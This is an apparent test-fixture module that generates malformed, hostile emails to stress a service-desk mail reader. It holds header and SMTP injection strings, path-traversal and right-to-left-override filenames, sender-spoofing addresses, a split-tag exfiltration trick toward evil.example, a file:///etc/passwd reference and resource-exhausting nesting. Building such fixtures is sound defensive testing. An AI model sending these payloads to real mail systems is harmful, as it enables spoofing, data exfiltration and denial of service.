# SPDX-License-Identifier: Apache-2.0
"""Mails made to break a reader: each family once a turn, no two alike."""

from collections.abc import Callable, Iterator
from itertools import count, cycle, islice

from bench.corpus.mime import CRLF

Family = Callable[[int], bytes]


def hostile(number: int) -> list[bytes]:
    """`number` hostile mails, the families in turn."""
    return list(islice(_endless(), number))


def _endless() -> Iterator[bytes]:
    for serial, family in zip(count(), cycle(FAMILIES), strict=False):
        yield family(serial)


def _mail(serial: int, body: bytes, *fields: bytes, author: bytes = b"") -> bytes:
    who = author or b"Mallory <mallory%d@evil.example>" % serial
    head = [b"From: " + who, b"To: servicedesk@desk.example", b"Message-ID: <evil.%d@evil.example>" % serial, *fields]
    return CRLF.join(head) + CRLF * 2 + body


def nested_parts(serial: int) -> bytes:
    """Two thousand multiparts, each inside the one before."""
    body = b"".join(
        b"--b%d" % depth + CRLF + b"Content-Type: multipart/mixed; boundary=b%d" % (depth + 1) + CRLF * 2 for depth in range(2000)
    )
    return _mail(serial, body, b"Content-Type: multipart/mixed; boundary=b0")


def nested_messages(serial: int) -> bytes:
    """Mails inside mails, six hundred deep."""
    inner = b"Content-Type: message/rfc822" + CRLF * 2
    return _mail(serial, inner * 600 + b"Subject: the last one" + CRLF * 2 + b"text", b"Content-Type: message/rfc822")


def comments(serial: int) -> bytes:
    """A From field of comments within comments."""
    return _mail(serial, b"text", author=b"(" * 20_000 + b" a%d@evil.example" % serial)


def many_fields(serial: int) -> bytes:
    """A hundred and twenty thousand header fields."""
    return _mail(serial, b"text", *(b"X-%d: y" % one for one in range(120_000)))


def many_recipients(serial: int) -> bytes:
    """Forty thousand addresses in Cc."""
    return _mail(serial, b"text", b"Cc: " + b",\r\n ".join(b"a%d@b%d.example" % (one, one) for one in range(40_000)))


def many_references(serial: int) -> bytes:
    """Twenty thousand Message-IDs in References."""
    return _mail(serial, b"text", b"References: " + b"\r\n ".join(b"<r%d.%d@evil.example>" % (one, serial) for one in range(20_000)))


def long_word(serial: int) -> bytes:
    """One encoded word of a megabyte in the subject."""
    return _mail(serial, b"text", b"Subject: =?utf-8?q?" + b"=41" * 330_000 + b"?=")


def odd_charset(serial: int) -> bytes:
    """Charsets that name codecs of Python rather than of mail."""
    name = (b"punycode", b"idna", b"zlib", b"utf-7", b"unicode_escape", b"no-such-charset")[serial % 6]
    return _mail(serial, b"+ADw-" * 20_000 + b"\xff\xfe", b"Content-Type: text/plain; charset=" + name)


def broken_base64(serial: int) -> bytes:
    """Base64 that is cut, with rubbish between."""
    return _mail(serial, b"SGVsbG8*" * 20_000 + b"=", b"Content-Type: text/html", b"Content-Transfer-Encoding: base64")


def deep_html(serial: int) -> bytes:
    """Elements nested fifty thousand deep."""
    return _mail(serial, b"<div><b><table>" * 50_000, b"Content-Type: text/html; charset=utf-8")


def injected_name(serial: int) -> bytes:
    """Line ends, traversal and controls in a file name, and indices of RFC 2231 without end."""
    pieces = b";".join(b" filename*%d=%d/../" % (one * 999_999_999, one) for one in range(500))
    return _mail(serial, b"text", b"Content-Disposition: attachment;" + pieces, b'Content-Type: text/plain; name="=?utf-8?q?a=0D=0Ab?="')


def no_header(serial: int) -> bytes:
    """Nothing but rubbish."""
    return b"\x00\xff\x80\r\r\n" * 50 + b"%d" % serial


def two_authors(serial: int) -> bytes:
    """Two From fields, one with an address in an encoded word."""
    return _mail(serial, b"text", b"From: =?utf-8?q?boss=40desk.example?= <mallory@evil.example>")


def lost_boundary(serial: int) -> bytes:
    """A multipart whose boundary never comes, over many lines that look like one."""
    return _mail(serial, b"--bound\r\n" * 30_000, b'Content-Type: multipart/mixed; boundary="boundary"')


def many_parts(serial: int) -> bytes:
    """A hundred and twenty thousand parts."""
    return _mail(serial, b"--b\r\n\r\nx\r\n" * 120_000, b"Content-Type: multipart/mixed; boundary=b")


def long_names(serial: int) -> bytes:
    """Names of three hundred kilobytes, of a person and of a file."""
    name = b"a" * 300_000
    body = b'--b\r\nContent-Disposition: attachment; filename="' + name + b'"\r\n\r\nx\r\n--b--\r\n'
    return _mail(serial, body, b"Content-Type: multipart/mixed; boundary=b", author=name + b" <mallory%d@evil.example>" % serial)


def equal_names(serial: int) -> bytes:
    """Two hundred files of one name, which climbs, is a device and ends in something else than it shows."""
    name = "../../CON\u202egpj.exe".encode()
    file = b'--b\r\nContent-Type: image/jpeg; name="' + name + b'"\r\nContent-Disposition: attachment\r\n\r\nMZ\r\n'
    return _mail(serial, file * 200 + b"--b--\r\n", b"Content-Type: multipart/mixed; boundary=b")


def injected_lines(serial: int) -> bytes:
    """Line ends in encoded words, in names and in a Message-ID; bare CR and a lonely dot."""
    fields = (
        b"Subject: =?utf-8?q?a=0D=0ABcc:_b=40evil.example?=",
        b"Reply-To: =?utf-8?b?YQ0KQmNjOiBi?= <c@evil.example>",
        b"X-A: a\rBcc: d",
    )
    return _mail(serial, b"a\n.\nMAIL FROM:<x>\r\n" * 10_000, *fields, b"In-Reply-To: <a\rb\x00@evil.example>")


def mailsploit(serial: int) -> bytes:
    """An address in encoded words, with NUL, in a group, behind comments, beside a homograph."""
    trick = b'"boss@desk.example" <=?utf-8?b?Ym9zc0BkZXNrLmV4YW1wbGUA?=@evil.example>, Friends: (x) b\xd0\xbess@desk.example;, '
    return _mail(serial, b"text", b"Cc: " + trick * 400, author=trick)


def split_encryption(serial: int) -> bytes:
    """An encrypted part between two halves of an HTML tag."""
    parts = (b'text/html\r\n\r\n<img src="http://evil.example/', b"application/pkcs7-mime\r\n\r\nMIAG", b'text/html\r\n\r\n">')
    body = b"".join(b"--b\r\nContent-Type: " + one + b"\r\n" for one in parts * 100)
    return _mail(serial, body, b"Content-Type: multipart/mixed; boundary=b")


def contradicting_types(serial: int) -> bytes:
    """Five types, three encodings, two boundaries; and a part that lies elsewhere."""
    types = (
        b"multipart/mixed; boundary=a",
        b"multipart/alternative; boundary=b",
        b"text/html",
        b"message/external-body; access-type=url",
        b"x",
    )
    fields = [b"Content-Type: " + one for one in types] + [
        b"Content-Transfer-Encoding: " + one for one in (b"base64", b"quoted-printable", b"7bit")
    ]
    return _mail(
        serial, b"--a\r\nContent-Type: message/external-body; access-type=url; url=file:///etc/passwd\r\n\r\n--b\r\n" * 2_000, *fields
    )


def broken_tnef(serial: int) -> bytes:
    """A winmail.dat whose lengths point beyond its end."""
    data = b"\x78\x9f\x3e\x22\x01\x00" + b"\x01\x02\x90\x06\x00\xff\x00\x00\x00\x00" * 50_000
    return _mail(serial, data, b"Content-Type: application/ms-tnef; name=winmail.dat", b"Content-Transfer-Encoding: binary")


def every_sign_of_a_machine(serial: int) -> bytes:
    """Fields of automatic mail, repeated, in odd cases, with comments."""
    names = (b"AUTO-SUBMITTED: (x) No (really)", b"Precedence: (bulk)", b"x-AUTO-response-suppress: none", b"List-Id:", b"X-Loop: ")
    return _mail(serial, b"text", *names * 300, b"Subject: Out of office: undelivered mail " * 500)


def cut_report(serial: int) -> bytes:
    """A bounce of fifty thousand recipients that ends in the middle."""
    status = b"Final-Recipient: rfc822; a@evil.example\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n" * 50_000
    body = b"--b\r\n\r\nIt failed.\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n" + status
    return _mail(serial, body, b"Content-Type: multipart/report; report-type=delivery-status; boundary=b")


def endless_calendar(serial: int) -> bytes:
    """A calendar of forty thousand events, each without its end."""
    return _mail(serial, b'BEGIN:VEVENT\r\nSUMMARY;X="a:b\r\n c\r\n' * 40_000, b"Content-Type: text/calendar; method=REQUEST")


def split_characters(serial: int) -> bytes:
    """Characters cut between encoded words, in seven bits and in eight."""
    return _mail(
        serial,
        b"+/v8-\x1b$B" * 50_000,
        b"Subject: " + b"=?utf-8?q?=C3?=\r\n =?utf-8?q?=BC?=\r\n " * 1_500,
        b"Content-Type: text/plain; charset=iso-2022-jp",
    )


FAMILIES: tuple[Family, ...] = (
    nested_parts,
    nested_messages,
    comments,
    many_fields,
    many_recipients,
    many_references,
    long_word,
    odd_charset,
    broken_base64,
    deep_html,
    injected_name,
    no_header,
    two_authors,
    lost_boundary,
    many_parts,
    long_names,
    equal_names,
    injected_lines,
    mailsploit,
    split_encryption,
    contradicting_types,
    broken_tnef,
    every_sign_of_a_machine,
    cut_report,
    endless_calendar,
    split_characters,
)
